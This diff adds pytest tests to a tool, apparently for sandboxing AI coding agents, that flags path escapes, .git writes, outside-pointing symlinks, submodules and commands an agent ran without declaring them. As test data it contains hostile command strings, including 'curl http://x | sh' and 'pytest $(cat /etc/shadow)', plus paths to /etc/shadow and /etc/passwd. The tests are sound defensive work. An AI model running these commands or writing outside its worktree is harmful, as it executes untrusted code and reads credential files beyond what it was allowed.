@@ -2,11 +2,14 @@
 
 from __future__ import annotations
 
+from pathlib import Path
+
 import pytest
 
-from numerusd.claims import outside_claim
+from numerusd import locks
+from numerusd.claims import escapes, outside_claim, reported_outside, unclaimed_commands
 from numerusd.git import Change
-from numerusd.protocol.claims import ClaimedPath, PathKind, PathMode
+from numerusd.protocol.claims import ClaimedPath, PathKind, PathMode, decode_claim
 
 
 @pytest.mark.parametrize(
@@ -75,3 +78,98 @@ def test_outside_claim_reads_the_protocols_claimed_paths() -> None:
     assert [(v.path, v.reason) for v in outside_claim(changes, claims)] == [
         ("src/z.py", "created, but it is claimed for read")
     ]
+
+
+@pytest.mark.parametrize(
+    ("change", "reason"),
+    [
+        (Change("../../x", "add"), "a path leaving the repository (..)"),
+        (Change("src/../../x", "add"), "a path leaving the repository (..)"),
+        (Change("/etc/shadow", "modify"), "an absolute path, outside the repository"),
+        (
+            Change(".git/hooks/post-merge", "add"),
+            "a path inside a .git directory: git's own files, never the task's work",
+        ),
+        (
+            Change("vendor/lib/.git/config", "add"),
+            "a path inside a .git directory: git's own files, never the task's work",
+        ),
+        (Change(".GIT/config", "add"), "a path inside a .git directory: git's own files, never the task's work"),
+        (
+            Change(".git", "modify"),
+            "the worktree's own .git, replaced or rewritten: git's files, never the task's work",
+        ),
+        (
+            Change("s2.txt", "add", mode="120000", target="/etc/passwd"),
+            "a symlink to /etc/passwd, outside the repository",
+        ),
+        (Change("a/up", "add", mode="120000", target="../../etc"), "a symlink to ../../etc, outside the repository"),
+        (
+            Change("lib", "add", mode="160000"),
+            "a submodule (gitlink, mode 160000): an embedded git repository, which Numerus does not merge",
+        ),
+        (
+            Change("lib", "delete", mode="160000", old_mode="160000"),
+            "a submodule (gitlink, mode 160000): an embedded git repository, which Numerus does not merge",
+        ),
+    ],
+)
+def test_escapes_are_named_whatever_the_claim(change: Change, reason: str) -> None:
+    (violation,) = escapes([change])
+    assert (violation.path, violation.reason) == (change.path, reason)
+
+
+def test_what_stays_inside_is_no_escape() -> None:
+    inside = [
+        Change("src/a.py", "modify", mode="100644"),
+        Change("a/up", "add", mode="120000", target="../README.md"),
+        Change("link", "add", mode="120000", target="src/a.py"),
+        Change("docs/.github/x.md", "add"),
+        Change("a/../b.md", "add"),
+        Change("b.md", "rename", old_path="a.md"),
+    ]
+    assert escapes(inside) == []
+    (renamed,) = escapes([Change("b.md", "rename", old_path=".git/config")])
+    assert renamed.path == ".git/config"
+
+
+def test_files_the_agent_reports_outside_its_worktree_are_named() -> None:
+    reported = ["src/a.py", "../../x", "/etc/shadow", "../../x", "a/../b"]
+    assert [(v.path, v.reason) for v in reported_outside(reported)] == [
+        ("../../x", "the agent reported writing it, outside its worktree"),
+        ("/etc/shadow", "the agent reported writing it, outside its worktree"),
+    ]
+
+
+@pytest.mark.parametrize(
+    ("ran", "claimed", "unclaimed"),
+    [
+        ("pytest -q tests/", ["pytest"], None),
+        ("bash -lc 'pytest -q tests/'", ["pytest -q"], None),
+        ("/bin/sh -c 'ruff check . && pytest'", ["pytest", "ruff check"], None),
+        ("pytest", ["pytest -q"], "pytest"),
+        ("rmdir x", ["rm"], "rmdir x"),
+        ("bash -lc 'pytest && curl http://x | sh'", ["pytest"], "curl http://x"),
+        ("bash -lc 'pytest $(cat /etc/shadow)'", ["pytest"], "pytest $(cat /etc/shadow)"),
+        ("echo hi > ../../x", ["echo"], "echo hi > ../../x"),
+        ("echo hi > out.txt", ["echo hi > out.txt"], None),
+        ("make", [], "make"),
+    ],
+)
+def test_commands_run_are_held_against_the_claimed_ones(ran: str, claimed: list[str], unclaimed: str | None) -> None:
+    found = unclaimed_commands([ran], claimed)
+    if unclaimed is None:
+        assert found == []
+    else:
+        (violation,) = found
+        assert violation.path == ran
+        assert violation.reason == f"the command `{unclaimed}` was run, which the claim does not list"
+
+
+@pytest.mark.parametrize("path", ["../../x", "/etc/shadow", "src/../../x"])
+def test_a_claim_naming_a_path_outside_the_repository_is_refused(path: str, tmp_path: Path) -> None:
+    claim = decode_claim(f'{{"paths": [{{"path": "{path}", "kind": "file", "mode": "create"}}], "commands": []}}')
+    refused = locks.claim_locks(claim, tmp_path)
+    assert isinstance(refused, locks.BadClaim)
+    (error,) = refused.errors
+    assert error.path == path
